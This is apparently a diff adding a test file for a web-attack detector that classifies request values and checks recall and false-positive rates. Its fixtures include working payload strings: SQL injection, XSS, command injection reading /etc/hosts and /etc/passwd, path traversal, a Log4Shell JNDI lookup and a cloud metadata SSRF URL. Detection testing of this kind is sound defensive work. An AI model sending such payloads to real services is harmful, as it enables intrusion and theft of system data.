@@ -1,0 +1,197 @@
+/** The request judge: what it recognises in which place, what it leaves alone, and what it costs. */
+import { expect, test } from 'vitest';
+import { z } from 'zod';
+import {
+  analyzeRequests,
+  judgeRequest,
+  judgeValue,
+  leadingClass,
+  parseRawRequest,
+} from '../../../analysis/web/index.ts';
+import { dataJsonLines, describeWithData } from '../../support/data.ts';
+
+const certainClass = (text: string) => leadingClass(judgeValue(text).filter(({ certain }) => certain));
+
+test.each([
+  ["1' or '1'='1", 'sqli'],
+  ['1 union/**/select password from users', 'sqli'],
+  ['%3Cscript%3Ealert(1)%3C%2Fscript%3E', 'xss'],
+  ['%2526lt;svg/onload=alert(1)>', 'xss'],
+  ['; cat /etc/hosts', 'rce'],
+  ['$(whoami)', 'rce'],
+  ['..%252f..%252fetc%252fpasswd', 'lfi'],
+  ['%c0%ae%c0%ae/%c0%ae%c0%ae/boot.ini', 'lfi'],
+  ['${${lower:j}ndi:${::-l}dap://198.51.100.1/a}', 'log4shell'],
+  ['http://169.254.169.254/latest/meta-data/', 'ssrf'],
+  ['<?php echo 1; ?>', 'php-injection'],
+  ['{{7*7}}', 'template-injection'],
+  ['x\r\nSet-Cookie: a=b', 'header-injection'],
+])('%s is %s', (text, attack) => {
+  expect(certainClass(text)).toBe(attack);
+});
+
+test.each([
+  "O'Reilly & Sons",
+  'select your seat from the list',
+  'Tom and Jerry',
+  '2026-11-24T00:00:00Z',
+  'a@example.com',
+  'C# or F#?',
+  'rock & roll; country',
+  '50% off',
+  'https://www.example.com/page?id=1',
+  'constructor',
+  '__main',
+  'drop me a line',
+  '10 < 20',
+])('%s is left alone', (text) => {
+  expect(certainClass(text)).toBeUndefined();
+});
+
+test('every place of a request is read, and evidence names the place, the text and the decodings', () => {
+  const sql = "1' union select a from b--";
+  const places = {
+    path: { target: `/${encodeURIComponent(sql)}` },
+    query: { target: `/?a=${encodeURIComponent(sql)}` },
+    header: { target: '/', headers: { 'User-Agent': sql } },
+    cookie: { target: '/', headers: { Cookie: `a=${sql}` } },
+    form: {
+      target: '/',
+      body: `a=${encodeURIComponent(sql)}`,
+      headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
+    },
+    json: { target: '/', body: JSON.stringify({ a: { b: [sql] } }), headers: { 'Content-Type': 'application/json' } },
+  };
+  for (const [name, place] of Object.entries(places)) {
+    const { hits } = judgeRequest({ method: 'POST', ...place });
+    expect(
+      hits.map((hit) => hit.class),
+      name,
+    ).toContain('sqli');
+  }
+  const [hit] = judgeRequest({ method: 'GET', target: places.query.target }).hits;
+  expect(hit).toMatchObject({ label: 'query value "a"', steps: ['percent'] });
+  expect(sql).toContain(hit?.text);
+});
+
+test('names of the prototype are words like any other', () => {
+  for (const text of ['constructor', 'toString valueOf', '&constructor; __proto__x'])
+    expect(() => judgeValue(text)).not.toThrow();
+  expect(parseRawRequest('GET / HTTP/1.1\r\nconstructor: x\r\n\r\n')).toMatchObject({ headers: { constructor: 'x' } });
+});
+
+test('requests become a verdict with evidence, and the same again', () => {
+  const requests = [
+    { method: 'GET', target: '/ok?id=3' },
+    { method: 'GET', target: '/a?x=;cat%20/etc/passwd' },
+  ];
+  const result = analyzeRequests(requests, 'params');
+  expect(result).toMatchObject({
+    verdict: 'malicious',
+    severity: 'high',
+    checked: [{ corpus: { items: 2, items_read: 2 } }],
+  });
+  expect(result.findings[0]?.evidence[0]?.locator).toContain('request 2, query value "x"');
+  expect(JSON.stringify(analyzeRequests(requests, 'params'))).toBe(JSON.stringify(result));
+  expect(analyzeRequests([{ method: 'GET', target: '/ok?id=3' }], 'params')).toMatchObject({
+    verdict: 'benign',
+    confidence: 0,
+  });
+});
+
+test('hostile values cost time in proportion to their length, not more (16 KiB each)', () => {
+  const cost = (unit: string, length: number) => {
+    const text = unit.repeat(Math.ceil(length / unit.length)).slice(0, length);
+    const from = process.hrtime.bigint();
+    judgeValue(text);
+    return Number(process.hrtime.bigint() - from) / 1e6;
+  };
+  for (const unit of [
+    '<',
+    '<a ',
+    '((',
+    "'",
+    '/*',
+    '${',
+    '{{',
+    '../',
+    ';ls ',
+    'union ',
+    'a=',
+    '%25',
+    '&lt;',
+    '\\x5c',
+    '`',
+    '[]',
+    '"or"',
+    'on',
+    '\r\n',
+    '){',
+    'select(',
+    '|',
+    '$a',
+    '0x2e',
+    'java.',
+    'system(',
+    '- -',
+    '<!--#',
+    'http://',
+  ]) {
+    expect(cost(unit, 16_384), JSON.stringify(unit)).toBeLessThan(500);
+  }
+});
+
+describeWithData('parameter values and requests with known labels', () => {
+  const Value = z.object({ payload: z.string(), attack_type: z.string() });
+  const CLASS: Readonly<Record<string, string>> = { sqli: 'sqli', xss: 'xss', cmdi: 'rce', 'path-traversal': 'lfi' };
+
+  test('recognises at least 85 % of each class by its name, and at most 1 % of ordinary values', () => {
+    const count = new Map<string, { all: number; flagged: number; named: number }>();
+    for (const { payload, attack_type } of z.array(Value).parse(dataJsonLines('web', 'http-params.jsonl.gz'))) {
+      const kind = count.get(attack_type) ?? { all: 0, flagged: 0, named: 0 };
+      const found = certainClass(payload);
+      kind.all += 1;
+      kind.flagged += found ? 1 : 0;
+      kind.named += found === CLASS[attack_type] ? 1 : 0;
+      count.set(attack_type, kind);
+    }
+    const { norm, ...attacks } = Object.fromEntries(count);
+    expect((norm?.flagged ?? 1) / (norm?.all ?? 1)).toBeLessThanOrEqual(0.01);
+    for (const [type, { all, named }] of Object.entries(attacks))
+      expect(named / all, type).toBeGreaterThanOrEqual(0.85);
+  });
+
+  const Request = z.object({
+    category: z.string(),
+    attack: z.boolean(),
+    request: z.object({
+      method: z.string(),
+      uri: z.string(),
+      headers: z.record(z.string(), z.string()).nullish(),
+      data: z.string().nullish(),
+    }),
+  });
+  test('of the requests of a rule set, keeps the recall it has reached', () => {
+    const rows = z.array(Request).parse(dataJsonLines('web', 'crs-requests.jsonl.gz'));
+    const recall = (category: string) => {
+      const attacks = rows.filter((row) => row.attack && row.category === category);
+      const flagged = attacks.filter(({ request: { method, uri, headers, data } }) =>
+        judgeRequest({ method, target: uri, headers: headers ?? {}, body: data ?? '' }).hits.some(
+          ({ certain }) => certain,
+        ),
+      );
+      return flagged.length / attacks.length;
+    };
+    for (const [category, floor] of Object.entries(CRS_FLOORS))
+      expect(recall(category), category).toBeGreaterThanOrEqual(floor);
+  });
+});
+
+const CRS_FLOORS = {
+  'java-injection': 0.85,
+  sqli: 0.55,
+  xss: 0.55,
+  'php-injection': 0.6,
+  rce: 0.45,
+  'session-fixation': 0.7,
+};
